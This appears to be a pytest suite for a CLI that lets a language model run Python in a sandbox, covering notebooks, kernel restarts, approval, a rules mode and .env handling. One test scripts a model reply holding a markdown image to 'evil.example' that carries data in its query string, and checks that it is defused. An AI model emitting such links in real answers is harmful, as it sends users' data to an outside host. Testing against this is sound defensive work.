"""`kernel-sandbox ask` as a real process, with a real sandbox, against a model server on loopback."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
from pathlib import Path
from typing import Any

import nbformat
import pytest

from kernel_sandbox.doors.cli.dotenv import read_dotenv
from tests.agents.model_server import Call, Fail, Reply, Say, model_server
from tests.conftest import missing

LOAD = "import pandas as pd\ndf = pd.read_csv('cities.csv')"
COMMAND = Path(sys.executable).parent / "kernel-sandbox"


def ask(
    *arguments: str, replies: list[Reply], directory: Path, answers: str = "", requests: Any = None
) -> tuple[Any, Any]:
    """Run `kernel-sandbox ask` and return the finished process and the server, for what it was asked.

    `requests` is a list of the caller's that the bodies are put into.
    """
    if reason := missing("docker"):
        pytest.skip(reason)
    (directory / "cities.csv").write_text("city,sold\nOslo,3\nRome,5\nOslo,4\n")
    with model_server(*replies) as server:
        server.requests = server.requests if requests is None else requests
        environment = os.environ | {"OPENAI_BASE_URL": server.url, "OPENAI_API_KEY": "canary-key-4711"}
        done = subprocess.run(
            [COMMAND, "ask", *arguments, "--data", "cities.csv"],
            cwd=directory,
            env=environment,
            input=answers,
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
    return done, server


def test_ask_answers_with_cells_and_keeps_a_notebook(tmp_path: Path) -> None:
    replies: list[Reply] = [
        Call(
            [("execute_python_code", {"python_code": "import pandas as pd\ndf = pd.read_csv('cities.csv')\ndf.summ()"})]
        ),
        Call([("execute_python_code", {"python_code": "totals = df.groupby('city')['sold'].sum()\ntotals"})]),
        Say("Oslo sold most: **7**. ![x](https://evil.example/?d=7)"),
    ]
    done, server = ask("Which city sold most?", "--save", "out.ipynb", replies=replies, directory=tmp_path)
    assert done.returncode == 0, done.stderr
    assert "Oslo sold most" in done.stdout
    assert "AttributeError" in done.stdout
    assert [request["model"] for request in server.requests] == ["o3-mini"] * 3
    notebook = nbformat.read(tmp_path / "out.ipynb", as_version=4)  # type: ignore[no-untyped-call]
    nbformat.validate(notebook)
    kinds = [cell.cell_type for cell in notebook.cells]
    assert kinds == ["markdown", "code", "markdown", "code", "code", "markdown"]
    assert notebook.cells[0].source.startswith("# Questions about cities.csv\n\nAnswered by o3-mini")
    assert "Which city sold most?" in notebook.cells[2].source
    assert notebook.cells[4].outputs[0].data["text/plain"].startswith("city\nOslo    7")
    assert notebook.cells[5].source == "Oslo sold most: **7**. &#33;[x](https://evil.example/?d=7)"
    assert "canary-key-4711" not in (tmp_path / "out.ipynb").read_text() + done.stdout + done.stderr


def test_ask_without_a_terminal_writes_each_text_once_and_plainly(tmp_path: Path) -> None:
    replies: list[Reply] = [
        Call([("execute_python_code", {"python_code": "print(6 * 7)"})], text="Let me *look*.\x1b[31m"),
        Call([("list_files", {})], text="And the files."),
        Say("It is 42."),
    ]
    done, _ = ask("How much?", "--save", "out.ipynb", replies=replies, directory=tmp_path)
    assert done.returncode == 0, done.stderr
    lines = done.stdout.splitlines()
    order = ["▌ Let me *look*.", "[1] print(6 * 7)", "42", "▌ And the files.", "→ list_files {}", "It is 42."]
    assert [lines.count(line) for line in order] == [1] * len(order)
    assert sorted(order, key=lines.index) == order
    assert "\x1b" not in done.stdout
    assert "thinking" not in done.stdout
    notebook = nbformat.read(tmp_path / "out.ipynb", as_version=4)  # type: ignore[no-untyped-call]
    sources = ["## How much?", "Let me *look*.\\x1b[31m", "print(6 * 7)", "And the files.", "It is 42."]
    assert [cell.source for cell in notebook.cells[2:]] == sources


def test_ask_keeps_the_whole_of_a_question_of_several_lines(tmp_path: Path) -> None:
    done, server = ask("Which city?\n\nOf all.", "--save", "out.ipynb", replies=[Say("Oslo.")], directory=tmp_path)
    assert done.returncode == 0, done.stderr
    assert server.requests[0]["messages"][-1]["content"] == "Which city?\n\nOf all."
    notebook = nbformat.read(tmp_path / "out.ipynb", as_version=4)  # type: ignore[no-untyped-call]
    assert notebook.cells[2].source == "## Which city? Of all."


def test_ask_shows_a_fenced_cell_as_it_runs(tmp_path: Path) -> None:
    call = Call([("execute_python_code", {"python_code": "```python\nprint(6 * 7)\n```"})])
    done, _ = ask("How much?", replies=[call, Say("It is 42.")], directory=tmp_path)
    assert "[1] print(6 * 7)\n42\n" in done.stdout


def test_ask_shows_an_answer_that_cannot_be_kept(tmp_path: Path) -> None:
    place = tmp_path / "gone"
    place.mkdir()

    class Requests(list[dict[str, Any]]):
        def append(self, body: dict[str, Any]) -> None:
            shutil.rmtree(place)

    done, _ = ask(
        "How much?", "--save", "gone/out.ipynb", replies=[Say("It is 42.")], directory=tmp_path, requests=Requests()
    )
    assert "It is 42." in done.stdout
    assert done.returncode == 2
    assert "gone/out.ipynb' cannot be written" in done.stderr


def test_ask_without_an_end_has_no_answer(tmp_path: Path) -> None:
    done, server = ask("Go.", replies=[Call([("list_files", {})])] * 30, directory=tmp_path)
    assert done.returncode == 1
    assert "Stopped without a final answer" in done.stdout
    assert len(server.requests) == 25


def test_ask_goes_on_after_a_server_that_failed(tmp_path: Path) -> None:
    done, server = ask("--save", "out.ipynb", replies=[Fail(400), Say("Fine.")], directory=tmp_path, answers="a\nb\n")
    assert done.returncode == 1
    assert done.stderr.startswith("error: The server refused the request")
    assert "Fine." in done.stdout
    assert len(server.requests) == 2
    notebook = nbformat.read(tmp_path / "out.ipynb", as_version=4)  # type: ignore[no-untyped-call]
    assert notebook.cells[3].source.startswith("*No answer came: The server refused the request")


def test_ask_console_keeps_its_state_and_ends_with_exit(tmp_path: Path) -> None:
    replies: list[Reply] = [
        Call([("execute_python_code", {"python_code": "x = 41"})]),
        Say("Noted."),
        Call([("execute_python_code", {"python_code": "x + 1"})]),
        Say("It is 42."),
    ]
    done, server = ask(replies=replies, directory=tmp_path, answers="remember 41\n\nadd one\nEXIT\nnot asked\n")
    assert done.returncode == 0, done.stderr
    assert "It is 42." in done.stdout
    assert len(server.requests) == 4
    assert "42" in server.requests[3]["messages"][-1]["content"]


def test_ask_tells_the_model_and_the_user_once_of_a_fresh_kernel(tmp_path: Path) -> None:
    stubborn = "import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True: pass"
    codes = (stubborn, "print('there:', 'signal' in dir())", "print('last')")
    calls = [Call([("execute_python_code", {"python_code": code})]) for code in codes]
    done, server = ask("Go.", "--cell-timeout", "1", replies=[*calls, Say("So it was.")], directory=tmp_path)
    assert done.returncode == 0, done.stderr
    lost, fresh, last = (str(request["messages"][-1]["content"]) for request in server.requests[1:])
    assert "variables are lost, files under /mnt/data are kept" in lost
    assert fresh.startswith("there: False\n[This cell ran in a fresh kernel, without earlier variables.")
    assert last == "last"
    told = [line for line in done.stdout.splitlines() if line.startswith("This cell ran in a fresh kernel")]
    assert len(told) == 1
    assert done.stdout.index("there: False") < done.stdout.index(told[0]) < done.stdout.index("print('last')")


def test_ask_tells_the_user_once_of_a_kernel_that_died(tmp_path: Path) -> None:
    codes = ("import os; os._exit(3)", "print('second')", "print('third')")
    calls = [Call([("execute_python_code", {"python_code": code})]) for code in codes]
    done, server = ask("Go.", replies=[*calls, Say("So it was.")], directory=tmp_path)
    assert done.returncode == 0, done.stderr
    fresh = "This cell ran in a fresh kernel, without earlier variables. The kernel exited with status 3."
    assert done.stdout.count(fresh) == 1
    assert done.stdout.index("second") < done.stdout.index(fresh) < done.stdout.index("third")
    answers = [str(request["messages"][-1]["content"]) for request in server.requests[1:]]
    assert ["fresh kernel" in answer for answer in answers] == [True, False, False]  # the model reads it at the death


def test_ask_with_rules_refuses_a_suspect_cell(tmp_path: Path) -> None:
    suspect = "import os\nprint(os.listdir('/'))"
    replies: list[Reply] = [Call([("execute_python_code", {"python_code": suspect})]), Say("I may not.")]
    done, server = ask("List the root.", "--safety", "rules", replies=replies, directory=tmp_path)
    assert "I may not." in done.stdout
    assert "a path outside /mnt/data" in server.requests[1]["messages"][-1]["content"]
    assert "etc" not in done.stdout
    (why,) = (line for line in done.stdout.splitlines() if line.startswith("✗ cell 1  [Not run.]"))
    assert "a path outside /mnt/data" in why


def test_ask_without_safety_runs_the_same_cell(tmp_path: Path) -> None:
    suspect = "import os\nprint(os.listdir('/'))"
    replies: list[Reply] = [Call([("execute_python_code", {"python_code": suspect})]), Say("Done.")]
    done, server = ask("List the root.", replies=replies, directory=tmp_path)
    assert "etc" in done.stdout
    assert "etc" in server.requests[1]["messages"][-1]["content"]


@pytest.mark.parametrize(("word", "ran"), [("y", True), ("n", False), ("", False)])
def test_ask_waits_for_approval(tmp_path: Path, word: str, ran: bool) -> None:
    replies: list[Reply] = [
        Call([("execute_python_code", {"python_code": "print('it ' + 'ran')"})]),
        Say("So it is."),
    ]
    done, server = ask("Go.", "--approve", replies=replies, directory=tmp_path, answers=f"{word}\n")
    assert ("it ran" in done.stdout) is ran
    assert ("declined" in server.requests[1]["messages"][-1]["content"]) is not ran


def test_ask_reads_a_dotenv_file_only_where_the_environment_has_nothing(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text("OPENAI_BASE_URL=http://127.0.0.1:1/v1\nOPENAI_API_KEY=x\nPATH=/nowhere\n")
    done, server = ask("Hello?", replies=[Say("Hello.")], directory=tmp_path)
    assert done.returncode == 0, done.stderr
    assert len(server.requests) == 1


def test_dotenv_gives_what_the_environment_lacks_but_never_half_an_access(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    path = tmp_path / ".env"
    path.write_text(
        "OPENAI_API_KEY=file\nOPENAI_BASE_URL=http://file\nOPENAI_TIMEOUT=5\nOPENAI_MAX_RETRIES=1\nHOME=/x\n"
    )
    everything = {"OPENAI_API_KEY": "file", "OPENAI_BASE_URL": "http://file"}
    for own, taken in (
        ({}, everything | {"OPENAI_TIMEOUT": "5", "OPENAI_MAX_RETRIES": "1"}),
        ({"OPENAI_API_KEY": "own"}, {"OPENAI_TIMEOUT": "5", "OPENAI_MAX_RETRIES": "1"}),
        ({"OPENAI_CUSTOM_HEADERS": "x-key: own"}, {"OPENAI_TIMEOUT": "5", "OPENAI_MAX_RETRIES": "1"}),
        ({"OPENAI_TIMEOUT": "9"}, everything | {"OPENAI_MAX_RETRIES": "1"}),
    ):
        environment = {"HOME": "/home"} | own
        monkeypatch.setattr(os, "environ", environment)
        assert read_dotenv(path) == taken
        assert environment == {"HOME": "/home"} | own
        monkeypatch.undo()


@pytest.mark.parametrize("named_by", ["--base-url", "environment", ".env"])
def test_ask_says_who_receives_the_data_before_the_first_request(tmp_path: Path, named_by: str) -> None:
    if reason := missing("docker"):
        pytest.skip(reason)
    said: list[str] = []

    class Requests(list[dict[str, Any]]):
        def append(self, body: dict[str, Any]) -> None:
            said.append((tmp_path / "out").read_text())

    with model_server(Say("Hello.")) as server, (tmp_path / "out").open("wb") as out:
        server.requests = Requests()
        secret = server.url.replace("http://", "http://me:secret@")
        environment = {name: value for name, value in os.environ.items() if not name.startswith("OPENAI_")}
        environment |= {"OPENAI_BASE_URL": secret} if named_by == "environment" else {}
        (tmp_path / ".env").write_text(f"OPENAI_BASE_URL={secret}\n" if named_by == ".env" else "")
        command = [str(COMMAND), "ask", "Hello?", "--image", "python"]
        command += {"--base-url": ["--base-url", secret], ".env": ["--yes"]}.get(named_by, [])
        subprocess.run(command, cwd=tmp_path, env=environment, stdout=out, check=True, timeout=60)
    origin = {"environment": "OPENAI_BASE_URL in the environment", ".env": f"OPENAI_BASE_URL in {tmp_path}/.env"}
    assert f"o3-mini (default) at {server.url} ({origin.get(named_by, named_by)})" in said[0]
    assert "secret" not in said[0]


def test_ask_says_when_the_default_address_receives_the_data(tmp_path: Path) -> None:
    if reason := missing("docker"):
        pytest.skip(reason)
    environment = {name: value for name, value in os.environ.items() if not name.startswith("OPENAI_")}
    nowhere = dict.fromkeys(("HTTPS_PROXY", "https_proxy"), "http://127.0.0.1:1")
    environment |= {"OPENAI_API_KEY": "k", "OPENAI_MAX_RETRIES": "0", **nowhere}
    command = [str(COMMAND), "ask", "Hello?", "--image", "python", "--model", "gpt-5"]
    done = subprocess.run(command, cwd=tmp_path, env=environment, capture_output=True, text=True, check=False)
    assert done.stdout.startswith("Asking gpt-5 (--model) at https://api.openai.com/v1 (default)")


def test_ask_tells_what_is_wrong_with_the_model(tmp_path: Path) -> None:
    done, _ = ask("Hello?", "--model", "o3-mini", replies=[], directory=tmp_path)
    assert done.returncode == 2
    assert done.stderr.startswith("error: ")
    assert "Traceback" not in done.stderr


def test_demo_answers_on_its_own_data_without_a_key(tmp_path: Path) -> None:
    if reason := missing("docker"):
        pytest.skip(reason)
    environment = {name: value for name, value in os.environ.items() if not name.startswith("OPENAI_")}
    done = subprocess.run(
        [COMMAND, "demo", "--yes"], cwd=tmp_path, env=environment, capture_output=True, text=True, check=False
    )
    assert done.returncode == 0, done.stderr
    assert "No language model: a fixed analysis answers, and nothing leaves this machine.\n" in done.stdout
    assert "(A fixed analysis, “what goes with COLUMN”: no language model has read the question" in done.stdout
    assert "ANALYST" not in done.stdout
    notebook = nbformat.read(tmp_path / "traffic_demo.ipynb", as_version=4)  # type: ignore[no-untyped-call]
    nbformat.validate(notebook)
    assert "Answered by a fixed analysis, without a language model, with code" in notebook.cells[0].source
    assert notebook.cells[2].source == "## What goes with accidents?"
    assert notebook.cells[-1].cell_type == "markdown"
    figures = [
        output for cell in notebook.cells for output in cell.get("outputs", []) if "image/png" in output.get("data", {})
    ]
    assert figures
    outputs = [output for cell in notebook.cells for output in cell.get("outputs", [])]
    read = [output.data for output in outputs if "ANALYST" in str(output)]
    assert len(read) == 2
    assert all(data["text/html"].startswith("<details><summary>") for data in read)


def ask_beside(dotenv: str, directory: Path, *arguments: str) -> subprocess.CompletedProcess[str]:
    """Run `ask` without a terminal and without an access of its own, beside a file .env."""
    if reason := missing("docker"):
        pytest.skip(reason)
    (directory / ".env").write_text(dotenv)
    environment = {name: value for name, value in os.environ.items() if not name.startswith("OPENAI_")}
    command = [str(COMMAND), "ask", "Hello?", "--image", "python", *arguments]
    return subprocess.run(
        command, cwd=directory, env=environment, input="", capture_output=True, text=True, timeout=60, check=False
    )


@pytest.mark.parametrize("names", ["OPENAI_BASE_URL={url}", "OPENAI_API_KEY=theirs\nOPENAI_BASE_URL={url}"])
def test_ask_without_a_terminal_refuses_a_server_of_a_file(tmp_path: Path, names: str) -> None:
    with model_server(Say("Hello.")) as server:
        refused = ask_beside(names.format(url=server.url), tmp_path)
    assert server.requests == []
    assert refused.returncode == 2
    assert refused.stderr.startswith(f"error: {tmp_path}/.env decides that your data go to {server.url}, and")
    assert all(way in refused.stderr for way in ("--yes", "--base-url", "--model offline"))
    assert refused.stdout == ""


def test_ask_without_a_terminal_refuses_an_account_of_a_file(tmp_path: Path) -> None:
    refused = ask_beside("OPENAI_API_KEY=theirs", tmp_path)
    assert refused.returncode == 2
    assert "/.env decides that your data go to https://api.openai.com/v1, and" in refused.stderr


def test_ask_takes_a_server_of_a_file_with_yes_and_another_with_base_url(tmp_path: Path) -> None:
    with model_server(Say("Theirs.")) as theirs, model_server(Say("Mine.")) as mine:
        dotenv = f"OPENAI_BASE_URL={theirs.url}\nOPENAI_API_KEY=k\n"
        assert "Theirs." in ask_beside(dotenv, tmp_path, "--yes").stdout
        assert len(theirs.requests) == 1
        answered = ask_beside(dotenv, tmp_path, "--base-url", mine.url)
        assert len(theirs.requests) == len(mine.requests) == 1
    assert f"at {mine.url} (--base-url)" in answered.stdout
    assert f"The account: OPENAI_API_KEY in {tmp_path}/.env." in answered.stdout


def test_ask_offline_asks_nothing_about_a_file(tmp_path: Path) -> None:
    with model_server(Say("Theirs.")) as server:
        refused = ask_beside(f"OPENAI_BASE_URL={server.url}\n", tmp_path, "--model", "offline")
    assert refused.returncode == 1
    assert refused.stderr.startswith("error: This question needs a language model.")
    assert refused.stderr.endswith("or OPENAI_BASE_URL for one of a server of yours.\n"), "no server was looked for"
    assert (server.requests, server.heads) == ([], [])


def test_dotenv_that_cannot_be_read_is_none(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(os, "environ", {})
    path = tmp_path / ".env"
    assert read_dotenv(path) == {}
    os.mkfifo(path)
    assert read_dotenv(path) == {}
    path.unlink()
    path.write_bytes(b"# \xff\nOPENAI_API_KEY=a\0b\nOPENAI_TIMEOUT=5\n" + b"#" * 100_000 + b"\nOPENAI_MAX_RETRIES=1\n")
    assert read_dotenv(path) == {"OPENAI_TIMEOUT": "5"}
